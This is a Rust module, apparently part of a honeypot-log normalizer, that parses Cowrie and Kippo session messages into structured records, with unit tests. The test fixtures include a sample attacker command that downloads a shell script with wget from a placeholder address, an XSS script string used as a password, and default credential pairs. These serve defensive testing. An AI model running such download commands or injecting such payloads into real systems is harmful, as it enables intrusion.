//! Cowrie's one-message-per-session channel `cowrie.sessions` (and the shared reader used
//! by its ancestor Kippo, `kippo.sessions`).

use super::fields::{self as f, Obj};
use super::Result;
use apiary_model::bounded::{MEDIUM, SHORT};
use apiary_model::{Normalized, RawEvent, Session};
use serde_json::Value;

/// Published at session close:
/// `{session, startTime, endTime, peerIP, peerPort, hostIP, hostPort, loggedin, credentials,
///   commands, unknownCommands, urls, version, ttylog, hashes, protocol}`
/// → one session:
/// - `timestamp` = `startTime` (when it parses), `destination_ip` = `hostIP`;
/// - `credentials` = the failed attempts, then the successful `loggedin` pair last;
///   `logged_in` = whether `loggedin` was set;
/// - `commands`, `urls`, `hashes` (sha256 of downloads), `ssh_version` = `version`;
/// - `extra`: cowrie's session id, `endTime`, and `unknownCommands` (a subset of `commands`).
///   The `ttylog` hex stays in the raw message only.
///
/// Fixes against mnemosyne: `protocol` is the payload's `protocol` (`telnet` sessions were
/// labelled `ssh`); commands, urls and hashes are kept instead of dropped.
pub fn sessions(raw: &RawEvent, out: &mut Vec<Normalized>) -> Result<()> {
    let o = f::json_object(raw)?;
    let ts = f::time_field(&o, "startTime", raw.received_at)?;
    let mut s = read_session(raw, &o, "cowrie", ts)?;
    s.protocol = f::text(&o, "protocol", SHORT)?
        .and_then(|p| f::proto_label(&p))
        .or_else(|| Some("ssh".into()));
    s.details.commands = f::text_list(&o, "commands", MEDIUM)?;
    s.details.urls = f::text_list(&o, "urls", MEDIUM)?;
    s.details.hashes = f::text_list(&o, "hashes", SHORT)?
        .iter()
        .filter_map(|h| f::hash_hex(h))
        .collect();
    let unknown = f::text_list(&o, "unknownCommands", MEDIUM)?;
    s.details.extra = f::extra(vec![
        ("session", f::text(&o, "session", 64)?.map(Value::String)),
        ("end_time", f::text(&o, "endTime", 64)?.map(Value::String)),
        (
            "unknown_commands",
            (!unknown.is_empty()).then(|| Value::from(unknown)),
        ),
    ]);
    f::push_session(out, s);
    Ok(())
}

/// Fields Kippo and Cowrie share: addresses, credentials, `loggedin`, `version`.
/// A missing `credentials` list is an empty one (mnemosyne's kippo normalizer failed on it).
pub(super) fn read_session(
    raw: &RawEvent,
    o: &Obj,
    honeypot: &str,
    ts: chrono::DateTime<chrono::Utc>,
) -> Result<Session> {
    let mut s = f::new_session(raw, honeypot, ts);
    s.source_ip = Some(f::source_ip(o, "peerIP")?);
    s.source_port = f::port(o, "peerPort")?;
    s.destination_ip = f::ip(o, "hostIP")?;
    s.destination_port = f::port(o, "hostPort")?;
    s.details.credentials = f::credential_list(o, "credentials")?;
    let loggedin = match f::get(o, "loggedin") {
        Some(v) => f::credential_value(v, "loggedin")?,
        None => None,
    };
    s.details.logged_in = Some(loggedin.is_some());
    if let Some(c) = loggedin {
        if s.details.credentials.len() < apiary_model::bounded::MAX_ITEMS {
            s.details.credentials.push(c);
        }
    }
    s.details.ssh_version = f::text_nonempty(o, "version", SHORT)?;
    Ok(s)
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::super::NormalizeError;
    use apiary_model::bounded::SHORT;
    use apiary_model::{Credential, Session, SessionDetails};
    use serde_json::json;

    fn cred(u: &str, p: &str) -> Credential {
        Credential {
            username: u.into(),
            password: p.into(),
        }
    }

    #[test]
    fn full_session() {
        let s = one_session(
            "cowrie.sessions",
            r#"{"session": "a1b2c3d4e5f6", "startTime": "2019-06-20T12:00:01.123456Z", "endTime": "2019-06-20T12:00:31.654321Z",
 "peerIP": "198.51.100.7", "peerPort": 51234, "hostIP": "10.0.0.5", "hostPort": 22,
 "loggedin": ["root", "123456"], "credentials": [["admin", "admin"], ["root", "root"]],
 "commands": ["uname -a", "wget http://198.51.100.9/x.sh"], "unknownCommands": ["foo"],
 "urls": ["http://198.51.100.9/x.sh"], "version": "SSH-2.0-libssh2_1.8.0", "ttylog": null,
 "hashes": ["E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "nothex"], "protocol": "ssh"}"#,
        );
        assert_eq!(
            s,
            Session {
                timestamp: ts("2019-06-20T12:00:01.123456Z"),
                source_ip: ip("198.51.100.7"),
                source_port: Some(51234),
                destination_ip: ip("10.0.0.5"),
                destination_port: Some(22),
                protocol: Some("ssh".into()),
                honeypot: "cowrie".into(),
                channel: "cowrie.sessions".into(),
                details: SessionDetails {
                    credentials: vec![
                        cred("admin", "admin"),
                        cred("root", "root"),
                        cred("root", "123456")
                    ],
                    ssh_version: Some("SSH-2.0-libssh2_1.8.0".into()),
                    commands: vec!["uname -a".into(), "wget http://198.51.100.9/x.sh".into()],
                    urls: vec!["http://198.51.100.9/x.sh".into()],
                    hashes: vec![
                        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into()
                    ],
                    logged_in: Some(true),
                    extra: Some(json!({
                        "session": "a1b2c3d4e5f6",
                        "end_time": "2019-06-20T12:00:31.654321Z",
                        "unknown_commands": ["foo"]
                    })),
                    ..Default::default()
                },
                ..Default::default()
            }
        );
    }

    #[test]
    fn telnet_is_telnet() {
        let s = one_session(
            "cowrie.sessions",
            r#"{"peerIP": "203.0.113.9", "peerPort": 4000, "hostPort": 23, "loggedin": null, "credentials": [], "protocol": "telnet", "version": null}"#,
        );
        assert_eq!(s.protocol.as_deref(), Some("telnet"));
        assert_eq!(s.details.logged_in, Some(false));
        assert_eq!(s.timestamp, received());
        assert!(s.details.credentials.is_empty());
    }

    #[test]
    fn hostile_credentials() {
        let huge = "A".repeat(1 << 20);
        let p = json!({"peerIP": "::ffff:198.51.100.7", "peerPort": -1, "hostPort": 70000,
            "credentials": [[huge, "<script>alert(1)</script>"], [1234, true], ["only-user"]]});
        // A one-element pair is an error, not a panic.
        assert!(matches!(
            fail("cowrie.sessions", p.to_string()),
            NormalizeError::BadField {
                field: "credentials",
                ..
            }
        ));
        let p = json!({"peerIP": "::ffff:198.51.100.7", "peerPort": -1, "hostPort": 70000,
            "credentials": [["A".repeat(1 << 20), "<script>alert(1)</script>"], [1234, true]]});
        let s = one_session("cowrie.sessions", p.to_string());
        assert_eq!(s.source_ip, ip("198.51.100.7"));
        assert_eq!(s.source_port, None);
        assert_eq!(s.destination_port, None);
        assert_eq!(s.details.credentials[0].username.len(), SHORT);
        assert_eq!(
            s.details.credentials[0].password,
            "<script>alert(1)</script>"
        );
        assert_eq!(s.details.credentials[1], cred("1234", "true"));
        let many: Vec<_> = (0..10_000).map(|i| format!("cmd {i}")).collect();
        let s = one_session(
            "cowrie.sessions",
            json!({"peerIP": "2001:db8::2", "commands": many}).to_string(),
        );
        assert_eq!(s.details.commands.len(), apiary_model::bounded::MAX_ITEMS);
        assert_eq!(s.source_ip, ip("2001:db8::2"));
    }

    #[test]
    fn wrong_types() {
        assert!(matches!(
            fail(
                "cowrie.sessions",
                r#"{"peerIP": "1.2.3.4", "commands": "ls"}"#
            ),
            NormalizeError::BadField {
                field: "commands",
                ..
            }
        ));
        assert!(matches!(
            fail(
                "cowrie.sessions",
                r#"{"peerIP": "1.2.3.4", "loggedin": "root"}"#
            ),
            NormalizeError::BadField {
                field: "loggedin",
                ..
            }
        ));
        assert_eq!(
            fail("cowrie.sessions", r#"{"peerPort": 1}"#),
            NormalizeError::MissingField("peerIP")
        );
        assert!(matches!(
            fail("cowrie.sessions", "[1]"),
            NormalizeError::NotJson(_)
        ));
    }
}
